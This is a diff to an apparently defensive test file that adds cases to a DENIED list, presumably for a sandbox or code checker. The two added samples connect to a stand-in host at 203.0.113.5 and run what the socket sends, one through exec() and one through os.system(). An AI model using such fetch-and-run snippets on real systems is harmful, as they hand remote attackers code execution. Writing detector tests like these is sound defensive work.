@@ -72,6 +72,18 @@ DENIED: dict[str, Mapping[str, str]] = {
     ),
 }
 
+# What a socket's file reads is what the socket reads: downloaded code run is still a
+# download run when read through ``makefile`` (it was before the file became the socket).
+DENIED |= {
+    "code-read-from-a-socket-s-file-and-run": init(
+        "import socket\ns = socket.create_connection(('203.0.113.5', 80))\n"
+        "exec(s.makefile('rb').read())\n"
+    ),
+    "a-command-read-from-a-socket-s-file-and-run": init(
+        "import os, socket\ns = socket.socket()\ns.connect(('203.0.113.5', 80))\n"
+        "with s.makefile('r') as f:\n    os.system(f.readline())\n"
+    ),
+}
 ALLOWED: dict[str, Mapping[str, str]] = {
     # A report of the interpreter, written and uploaded: nothing secret is in it.
     "report-written-then-uploaded": on_import(
